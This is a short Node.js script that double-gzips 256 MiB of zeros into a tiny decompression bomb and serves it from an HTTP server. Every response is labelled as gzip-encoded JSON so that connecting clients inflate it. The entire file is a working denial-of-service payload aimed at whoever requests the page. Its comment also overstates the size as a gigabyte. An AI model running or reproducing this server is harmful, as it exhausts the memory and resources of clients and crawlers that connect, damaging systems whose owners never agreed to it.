import http from 'node:http';
import zlib from 'node:zlib';

// A gigabyte of zeros, packed twice, is a few kilobytes.
const once = zlib.gzipSync(Buffer.alloc(256 * 1024 * 1024), { level: 1 });
const bomb = zlib.gzipSync(once);
console.log(`${bomb.length < 100_000 ? 'a small' : 'a large'} bomb`);
http
  .createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip, gzip', 'transfer-encoding': 'chunked' }).end(bomb);
  })
  .listen(process.env.PORT);
